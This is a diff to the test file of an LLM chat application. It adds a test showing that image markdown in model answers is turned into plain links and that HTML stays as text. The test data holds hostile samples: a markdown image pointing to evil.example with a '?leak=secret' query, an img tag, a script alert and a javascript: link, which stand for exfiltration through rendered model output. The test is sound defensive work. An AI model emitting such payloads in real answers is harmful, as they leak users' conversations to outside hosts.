@@ -197,7 +197,7 @@ def test_upload_reaches_the_context_of_the_next_request(
     fake_llm.chat.push(openai_text("I see the harbour walk."))
     send(at, "What do I have?")
     system_prompt = fake_llm.chat.last.json["messages"][0]["content"]
-    assert f'id "{asset_id}": Harbour walk.mp4' in system_prompt
+    assert f'id "{asset_id}": "Harbour walk.mp4"' in system_prompt
     assert "(active, shown in the player)" in system_prompt
     assert f'Project id: "{at.query_params["project"]}"' in system_prompt
     stored = SqliteStorage(data_dir)
@@ -252,3 +252,23 @@ def test_message_is_kept_when_the_database_is_busy_and_saved_on_retry(
         ("user", "Do not lose me"),
         ("assistant", "Saved and answered."),
     ]
+
+
+HOSTILE_ANSWER = (
+    "Look: ![chart](https://evil.example/p.png?leak=secret) <img src=https://evil.example/i.png> "
+    "<script>alert(1)</script> [docs](javascript:alert(1))\n\n```md\n![kept](in-code.png)\n```"
+)
+
+
+def test_model_answer_cannot_load_external_images(data_dir: Path, fake_llm: FakeLLMServer) -> None:
+    """Images in an answer would be fetched from their host as soon as they are drawn (a way to leak the
+    conversation without a click): they become links; HTML stays text; code blocks are untouched."""
+    fake_llm.chat.push(openai_text(HOSTILE_ANSWER))
+    at = send(new_page(), "Show me ![me](https://evil.example/u.png)")
+    markdown = [m for bubble in at.main.chat_message for m in bubble.markdown]
+    assert markdown and all(not m.proto.allow_html for m in markdown)
+    user, answer = (bubble for _, bubble in bubbles(at))
+    assert "![" not in user and "[me](https://evil.example/u.png)" in user
+    assert "[chart](https://evil.example/p.png?leak=secret)" in answer and "![chart]" not in answer
+    assert "```md\n![kept](in-code.png)\n```" in answer
+    assert stored_messages(data_dir, at.query_params["chat"])[1] == ("assistant", HOSTILE_ANSWER)  # stored as sent
